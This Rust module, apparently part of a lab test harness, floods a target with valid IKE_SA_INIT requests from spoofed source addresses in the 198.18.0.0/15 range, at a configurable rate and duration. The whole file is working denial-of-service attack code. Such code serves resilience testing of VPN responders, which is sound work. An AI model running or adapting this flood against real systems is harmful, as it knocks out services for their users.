//! A flood of correct IKE_SA_INIT requests, each from another address.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::Result;

use super::message::{Dice, sa_init};
use super::spoof::Spoofer;
use crate::lab::host::Host;

/// Every spoofed source lies in this network, so that answers can be thrown away on the way.
pub const SOURCES: &str = "198.18.0.0/15";

/// Time between two bursts.
const TICK: Duration = Duration::from_millis(2);

/// Sends `rate` requests per second to `target` for `length`; returns how many were sent.
///
/// # Errors
/// When the raw socket refuses.
pub fn run(host: &Host, target: SocketAddrV4, rate: u32, length: Duration) -> Result<u64> {
    let mut spoofer = Spoofer::new(host)?;
    let mut dice = Dice::new(1);
    let started = Instant::now();
    let mut sent: u64 = 0;
    loop {
        let elapsed = started.elapsed();
        if elapsed >= length {
            return Ok(sent);
        }
        let due = (elapsed.as_secs_f64() * f64::from(rate)) as u64;
        while sent < due {
            let number = dice.next_u64();
            let low = u32::try_from(number & 0x1_ffff).unwrap_or(0);
            let source = Ipv4Addr::from(u32::from(Ipv4Addr::new(198, 18, 0, 0)) | low);
            let port = u16::try_from(number >> 48).unwrap_or(500).max(1024);
            let message = sa_init(&mut dice);
            spoofer.send(SocketAddrV4::new(source, port), target, &message)?;
            sent += 1;
        }
        thread::sleep(TICK);
    }
}
